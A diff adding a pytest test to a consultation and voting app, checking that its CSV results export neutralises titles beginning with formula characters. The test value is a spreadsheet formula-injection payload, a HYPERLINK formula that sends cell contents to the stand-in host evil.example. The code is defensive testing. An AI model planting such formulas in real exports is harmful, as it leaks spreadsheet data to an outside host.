@@ -186,6 +186,30 @@ def test_results_quote_reservations_by_the_attribution_rule(
     assert rows[0]["adopted"] == "true"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_results_export_shows_a_title_that_looks_like_a_formula_as_text(
+    app, client, plenary, session, start
+):
+    consultation, recommendation = plenary()
+    # Set past the forms, which strip leading spaces: the export trusts no stored text.
+    recommendation.title = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
+    recommendation.versions[-1].text = "Plain text."
+    session.flush()
+    round_ = voting.open_round(recommendation, find_user("facilitator@example.org"))
+    voting.cast_vote(round_, find_user("p0@example.org"), "support")
+    voting.cast_vote(round_, find_user("p1@example.org"), "oppose")
+    voting.close_round(round_, find_user("facilitator@example.org"))
+    sign_in(client, "p1@example.org")
+
+    response = client.get(f"/c/{consultation.slug}/results.csv")
+
+    assert response.mimetype == "text/csv"
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).removeprefix(
+        "\ufeff"))))
+    assert rows[0]["title"] == f'\'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
+    assert (rows[0]["round"], rows[0]["support"], rows[0]["oppose"]) == ("1", "1", "1")
+
+
 def test_the_json_api_answers_by_the_same_permissions(app, client, plenary, session,
                                                       make_consultation):
     consultation, recommendation = plenary()
